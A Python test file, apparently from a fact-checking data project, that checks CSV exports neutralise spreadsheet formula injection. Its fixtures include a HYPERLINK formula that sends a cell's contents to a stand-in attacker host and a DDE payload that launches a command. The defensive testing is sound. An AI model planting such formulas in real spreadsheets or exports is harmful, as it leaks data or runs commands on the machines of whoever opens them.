"""The open data as others read it: a spreadsheet opening the CSV, a crawler reading the sitemap,
an annotation client, and sources saved with Windows line endings."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from rootcheck.render.exports import spreadsheet_safe

from .helpers import FIXTURE, build


def _copy(tmp_path: Path) -> Path:
    root = tmp_path / "fixture"
    shutil.copytree(FIXTURE, root)
    return root


def _rows(files: dict[str, bytes]) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(files["data/claims.csv"].decode()))}


def test_no_cell_of_the_csv_opens_as_a_formula(tmp_path: Path) -> None:
    root = _copy(tmp_path)
    jobs = root / "claims" / "progress" / "jobs.yaml"
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    jobs.write_text(
        jobs.read_text("utf-8").replace(
            'summary: "Support helped create and sustain more than 90,000 jobs"', f"summary: '{formula}'"
        ),
        "utf-8",
    )
    sources = root / "seeds" / "sources.yaml"
    sources.write_text(
        sources.read_text("utf-8").replace('"The Pledge: Safer and More Prosperous"', '"@SUM(1+1)"'), "utf-8"
    )
    rows = _rows(build(root))
    assert rows["jobs"]["summary"] == "'" + formula
    assert rows["four-billion"]["source_title"] == "'@SUM(1+1)"
    # What was text stays text; every other cell is as it was.
    assert rows["jobs"]["quote"].startswith("private sector") and rows["jobs"]["value"] == "90000"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1-1", "'+1-1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # A number alone runs nothing, and a spreadsheet must still read it as a number.
        ("-12.5", "-12.5"),
        ("-3", "-3"),
        ("+7", "+7"),
        ("-1e-05", "-1e-05"),
        ("-12%", "'-12%"),
        ("1,200 teachers", "1,200 teachers"),
        ("", ""),
    ],
)
def test_a_cell_that_would_open_as_a_formula_is_marked_as_text(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written
